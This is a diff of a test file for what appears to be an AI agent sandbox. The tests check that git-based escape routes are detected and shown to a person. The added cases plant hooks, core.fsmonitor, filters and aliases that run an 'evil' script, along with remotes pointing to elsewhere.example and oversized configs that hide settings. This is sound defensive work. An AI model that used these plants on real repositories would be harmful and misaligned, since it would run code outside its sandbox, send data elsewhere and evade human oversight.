@@ -1,4 +1,4 @@
-import { execFileSync } from 'node:child_process'
+import { execFileSync, spawnSync } from 'node:child_process'
 import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import t from 'tap'
@@ -89,6 +89,9 @@ const fsmonitor = 'git config core.fsmonitor ./evil'
 /** A worktree without its repository: `common` is where it says that hooks and settings are. */
 const linked = (common: string): string => `mkdir -p .v/worktrees/x .v/objects .v/refs; echo "gitdir: .v/worktrees/x" > .git; echo "${common}" > .v/worktrees/x/commondir; echo "ref: refs/heads/main" > .v/worktrees/x/HEAD; echo "$PWD/.git" > .v/worktrees/x/gitdir`
 const settingsOf = (folder: string): string => `printf "[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tfsmonitor = ./evil\\n" > "${folder}/config"`
+const planted = '[core]\\n\\tfsmonitor = ./evil\\n'
+/** Prints something after more than is read of a file. */
+const tooLong = (text: string): string => `{ printf '#'; head -c 300000 /dev/zero | tr '\\0' x; printf '\\n${text}\\n'; }`
 const escapes: Escape[] = [
   { name: 'a copy of .git with a hook, that .git/commondir points to', plant: 'cp -r .git .x; for h in pre-push post-index-change reference-transaction pre-commit; do cp evil .x/hooks/$h; done; echo ../.x > .git/commondir', shown: /\.x\/hooks\/pre-push is run by git/ },
   { name: '.git/commondir alone', plant: 'mkdir -p elsewhere && cp -r .git/refs .git/objects elsewhere && echo ../elsewhere > .git/commondir', shown: 'undone' },
@@ -111,7 +114,29 @@ const escapes: Escape[] = [
   { name: 'a program of the workspace that the settings name', before: 'printf "#!/bin/sh\\n" > tool; chmod +x tool; git config core.fsmonitor ./tool', plant: 'cp evil tool', shown: /tool is what core\.fsmonitor names/ },
   { name: 'settings of a file that the settings include', before: 'touch shared.gitconfig; git config include.path ../shared.gitconfig', plant: 'printf "[core]\\n\\tfsmonitor = ./evil\\n" > shared.gitconfig', shown: /shared\.gitconfig sets core\.fsmonitor/ },
   { name: 'objects taken from elsewhere', plant: 'echo /srv/objects > .git/objects/info/alternates', shown: 'undone' },
-  { name: 'the way to another server', kind: 'folder', plant: 'git init -q && git remote add origin https://elsewhere.example/x.git', then: 'git push origin main', shown: /sets remote\.origin\.url = https:\/\/elsewhere\.example/ }
+  { name: 'the way to another server', kind: 'folder', plant: 'git init -q && git remote add origin https://elsewhere.example/x.git', then: 'git push origin main', shown: /sets remote\.origin\.url = https:\/\/elsewhere\.example/ },
+  { name: 'settings behind a comment too long to be read', kind: 'folder', plant: `git init -q && ${tooLong(planted)} > .git/config`, shown: /\.git\/config is too long to be read/ },
+  { name: 'a rebase behind such a comment', plant: `mkdir .git/rebase-merge; cd .git/rebase-merge; for f in head-name onto orig-head; do echo x > $f; done; ${tooLong('exec ./evil')} > git-rebase-todo`, then: 'git rebase --continue', shown: /git-rebase-todo is too long to be read/ },
+  { name: 'a worktree elsewhere behind many line ends', kind: 'folder', plant: `git init -q sub && ${fsmonitor.replace('git', 'git -C sub')} && { printf 'gitdir: sub/.git'; head -c 300000 /dev/zero | tr '\\0' '\\n'; } > .git`, shown: /\.git is too long to be read/ },
+  { name: 'an included file too long to be read', before: 'touch shared; git config include.path ../shared', plant: `${tooLong(planted)} > shared`, shown: /shared is too long to be read/ },
+  ...['../shared ; of the team', '"../shared"', '"../sh"ared # x', '"../sha\\\nred"'].map((value): Escape =>
+    ({ name: `a file included as ${value}`, before: `touch shared; printf '%b' '[include]\\n\\tpath = ${value.replace(/\\/g, '\\\\').replaceAll('\n', '\\n')}\\n' >> .git/config; [ "$(git config include.path)" = ../shared ]`, plant: `printf '${planted}' > shared`, shown: /shared sets core\.fsmonitor/ })),
+  { name: 'a file included on the line of the header, on a condition', before: 'touch shared; echo \'[INCLUDEif "gitdir:**"] PATH = ../shared\' >> .git/config', plant: `printf '${planted}' > shared`, shown: /shared sets core\.fsmonitor/ },
+  ...['sh clean.sh', 'sh "$PWD/clean.sh"', 'f() { sh clean.sh; }; f', 'sh "$(git rev-parse --show-toplevel)/clean.sh"'].map((value): Escape =>
+    ({ name: `a script that a setting hands to a program: ${value}`, before: `printf cat > clean.sh; git config filter.x.clean '${value}'; echo '*.dat filter=x' > .gitattributes`, plant: '{ tail -1 evil; echo cat; } > clean.sh; echo 1 > a.dat', then: 'git add a.dat', shown: /clean\.sh is what filter\.x\.clean names/ })),
+  { name: 'a script that was not there yet', before: 'git config alias.x "!sh x.sh"', plant: 'cp evil x.sh', then: 'git x', shown: /x\.sh is what alias\.x names/ },
+  { name: 'a script named for a worktree', before: 'git config filter.x.clean "sh clean.sh"; git worktree add -q sub/third; echo "*.dat filter=x" > sub/third/.gitattributes', plant: 'cp evil sub/third/clean.sh; echo 1 > sub/third/a.dat', then: 'cd sub/third && git add a.dat', shown: /sub\/third\/clean\.sh is what filter\.x\.clean names/ },
+  { name: 'the folder that a program is given', before: 'mkdir tools; git config core.fsmonitor "sh tools"; git config diff.external "node tools"', plant: 'echo "require(\'child_process\').execSync(\'./evil\')" > tools/index.js', then: 'git diff', shown: /tools\/index\.js is what diff\.external names/ },
+  { name: 'what lies below the folder of the hooks', before: 'mkdir -p .husky/_; printf "#!/bin/sh\\n. .husky/_/husky.sh\\n" > .husky/pre-commit; chmod +x .husky/pre-commit; touch .husky/_/husky.sh; git config core.hooksPath .husky', plant: 'cat evil > .husky/_/husky.sh', then: 'git commit --allow-empty -m x', shown: /\.husky\/_\/husky\.sh lies where git runs hooks/ },
+  { name: 'hooks in the workspace itself', before: 'git config core.hooksPath .', plant: 'cp evil pre-commit', then: 'git commit --allow-empty -m x', shown: /pre-commit is run by git/ },
+  { name: 'a folder of hooks with more files than are looked at', before: 'mkdir -p hooks/x; (cd hooks/x; seq 600 | xargs touch); git config core.hooksPath hooks', plant: 'cp evil hooks/pre-push', shown: /hooks holds more files than can be looked through/ },
+  { name: 'a link in the place of the hooks', before: 'mkdir .githooks; git config core.hooksPath .githooks', plant: 'rmdir .githooks; ln -s /srv/hooks .githooks', shown: /\.githooks leads to hooks in \/srv\/hooks/ },
+  ...['remotes', 'branches'].map((folder): Escape =>
+    ({ name: `.git/${folder}`, kind: 'folder', plant: `git init -q && mkdir -p .git/${folder} && printf 'URL: https://elsewhere.example/x.git\\nPush: refs/heads/main\\n' > .git/${folder}/origin`, then: 'git push origin', shown: /origin says where git pushes to: URL: https:\/\/elsewhere/ })),
+  ...['url.https://elsewhere.example/.pushInsteadOf /srv/', 'remote.origin.pushurl https://elsewhere.example/', 'remote.origin.vcs ext', 'branch.main.remote https://elsewhere.example/', 'branch.main.pushRemote other', 'remote.pushDefault other'].map((setting): Escape =>
+    ({ name: `the way to another server: ${setting}`, kind: 'folder', plant: `git init -q && git config ${setting}`, then: 'git push', shown: new RegExp(`sets ${setting.split(' ')[0]!.replace(/\.(\w+)$/, (key) => key.toLowerCase())} = `) })),
+  { name: 'grafts', plant: 'git rev-parse HEAD > .git/info/grafts', shown: /info\/grafts says which history git sees/ },
+  { name: 'a value that no path can be made of', kind: 'folder', plant: `git init -q && ${fsmonitor} && git config core.hooksPath "$(head -c 9000 /dev/zero | tr '\\0' /)x" && git config include.path "$(head -c 9000 /dev/zero | tr '\\0' x)" 2>/dev/null`, shown: /sets core\.fsmonitor = \.\/evil/ }
 ]
 
 t.test('what a command in the sandbox plants for git does not run, and is shown', needed, async (t) => {
@@ -239,6 +264,47 @@ t.test('a folder that is too large is said to be', needed, async (t) => {
   t.same(await boundary.suspects(join(folder, 'work')), [])
   rmSync(join(folder, 'work', 'c'), { recursive: true })
   t.same((await (await boundary.begin(join(folder, 'work'), new AbortController().signal)).end()).suspect, [])
+})
+
+t.test('folders deeper than any path are said to be, and hold up nothing', needed, async (t) => {
+  const service = await open(t)
+  const at = await place(service)
+  t.teardown(() => execFileSync('rm', ['-rf', join(at.workspace, 'd'.repeat(100))]))
+  const left = await confined(service, at, `p=$(printf '${'d'.repeat(100)}/%.0s' $(seq 30)); for i in 1 2 3; do mkdir -p $p; cd $p; done; true`)
+  t.match(left.warnings.join(), /holds folders too deep to be looked through/)
+  const turn = await begin(service, at.session, outside('git status'), outside('git status'))
+  t.match(turn.pending?.description, /holds folders too deep to be looked through/)
+  t.notMatch(turn.pending?.description, /still running/)
+  await turn.answer('once')
+  await turn.reader.ended
+  t.equal((await begin(service, at.session, outside('git status'))).pending, null, 'a person has looked')
+})
+
+t.test('what the user has set for every repository names files of the workspace as well', needed, async (t) => {
+  const service = await open(t)
+  writeFileSync(join(service.folder, '.gitconfig'), '[include]\n\tpath = ~/more # of mine\n')
+  writeFileSync(join(service.folder, 'more'), '[core]\n\thooksPath = .githooks\n[alias]\n\tx = !sh x.sh\n')
+  const at = await place(service)
+  t.match((await confined(service, at, `${at.evil}; mkdir .githooks; cp evil .githooks/pre-commit; cp evil x.sh`)).warnings.join(), /pre-commit is run by git[^]*x\.sh is what alias\.x names|x\.sh is what alias\.x names[^]*pre-commit is run by git/)
+  t.match((await begin(service, at.session, outside('git commit --allow-empty -m x'))).pending?.description, /pre-commit is run by git/)
+  t.notOk(at.ran())
+})
+
+t.test('configurations are read as git reads them', needsGit, async (t) => {
+  const { parseConfiguration } = await import('../services/agent/sandbox/git-config.js')
+  const file = join(t.testdir(), 'config')
+  const texts = ['[a]\nb=c', '[a]b=c', '[a] b = c # d', '[a]\nb', '[a]\nb=', '[a "B c"]\nD = e', '[a.B]\nc=d', '[A "x\\"y\\\\z"]\nb=1', '[a]\nb = "c ; d" ; e', '[a]\nb = c\\\n  d', '[a]\nb = "c\\\nd"', '[a]\nb = c\\\r\nd\r\n',
+    '\ufeff[a]\nb=c', '[a]\nb = c\\td\\n\\"\\\\', '[a]\nb = c "" ', '[a]\nb = " c " d  ', '[a]\nb = "" c', '# x\n; y\n[a] # z\nb=c;d', '[a]\n\tb-C2 \t=\t d', '[a]\nb=c\rd', '[a]\nb=ü',
+    '[a]\nb=1\n[a\nc=2', '[a]\nb=1\nc d', '[a]\nb="1', '[a]\nb=\\x', '[a]\n1=2', '[a_b]\nc=1', '[a "b]\nc=1', '[a "b" ]\nc=1', '[a]\nb=1\n]', '[a]\nb # c', '[a "b\\\nc"]\nd=1']
+  for (const text of texts) {
+    writeFileSync(file, text)
+    const git = spawnSync('git', ['config', '--file', file, '--null', '--list'], { encoding: 'utf8' })
+    const { settings, unread } = parseConfiguration(text)
+    t.equal(unread === null, git.status === 0, JSON.stringify(text))
+    const listed = git.stdout.split('\0').slice(0, -1).map((entry) => /^([^\n]*)\n?([^]*)$/.exec(entry)!.slice(1))
+    if (git.status === 0) t.same(settings.map(({ name, value }) => [name, value]), listed, JSON.stringify(text))
+  }
+  t.match(parseConfiguration('[a]\nb=c\0d'), { settings: [], unread: 'b=c\0d' }, 'what git would cut off')
 })
 
 t.test('nothing is run in the sandbox beside a command outside of it, and what is under way is asked about', needed, async (t) => {
